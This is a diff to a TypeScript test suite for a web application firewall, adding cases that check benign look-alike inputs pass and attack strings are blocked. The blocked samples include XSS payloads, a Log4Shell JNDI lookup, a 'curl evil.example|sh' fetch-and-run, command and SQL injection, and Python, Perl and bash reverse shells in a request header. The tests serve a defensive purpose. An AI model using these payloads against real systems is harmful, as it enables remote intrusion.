@@ -1538,6 +1538,50 @@ describe('waf API profile: session 9', () => {
     assert.ok((await run(api, getInit(badQ))).error);
   });
 
+  test('held-out 20/21 look-alikes: media players, placeholders, policy variables, control tags, globs, arrows', async () => {
+    const ok: unknown[] = [
+      {
+        explanation_html:
+          '<p>Listen:</p><p><audio src="https://cdn.learn.example/a/4e.mp3" controls></audio></p>',
+      },
+      { memo: 'Auto-categorized (rule #${id})' },
+      { Condition: { StringNotEquals: { 'aws:PrincipalTag/team': '${aws:username}' } } },
+      {
+        body_html:
+          '<p>Hi {{ticket.requester.first_name}},</p>{% if ticket.priority == "urgent" %}<p>We have escalated this.</p>{% endif %}',
+      },
+      { plain_text: 'Titrate insulin glargine 18 -> 22 units tonight; follow up in two weeks.' },
+    ];
+    for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
+    assert.equal((await run(api, getInit('/bms/api/v3/points?name=AHU-1%2F*&limit=200'))).error, undefined);
+    const bad: unknown[] = [
+      { explanation_html: '<p>Listen:</p><audio src="javascript:alert(1)" controls></audio>' },
+      { explanation_html: '<p>Watch:</p><video src="x" onerror="alert(1)"></video>' },
+      { memo: 'Auto-categorized (rule #${sessionScope}) for ${jndi:ldap://203.0.113.5/a}' },
+      { memo: 'Auto-categorized (rule #${id}) $(curl evil.example|sh)' },
+      { body_html: '<p>Hi</p>{% if a == "b" %}<p>x</p>{% endif %}<p>& if exist c:\\boot.ini == 1 calc</p>' },
+    ];
+    for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
+    assert.ok((await run(api, getInit('/bms/api/v3/points?name=a%2F*%20or%201%3D1'))).error);
+  });
+
+  test('a script-language reverse shell in a custom header is refused (90119, held-out 21)', async () => {
+    const header = (v: string): Init => ({
+      method: 'GET',
+      path: '/api/v2/tickets',
+      query: 'status=open',
+      headers: { ...ua, 'x-customer-ref': v },
+    });
+    for (const v of [
+      `'; python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("198.51.100.7",9001));pty.spawn("sh")'`,
+      "x; perl -e 'use Socket;'",
+      'x; bash -i >& /dev/tcp/198.51.100.7/9001 0>&1',
+    ])
+      assert.equal((await run(api, header(v))).error?.reason, 'waf:rce', v);
+    for (const v of ['CR-2291-python', 'node -v 20; python 3.12 (see ticket)'])
+      assert.equal((await run(api, header(v))).error, undefined, v);
+  });
+
   test('a probe quoted after a separator in a sentence is refused (the shell removes the quotes)', async () => {
     for (const note of [
       'Culture add and more words here; "id"',
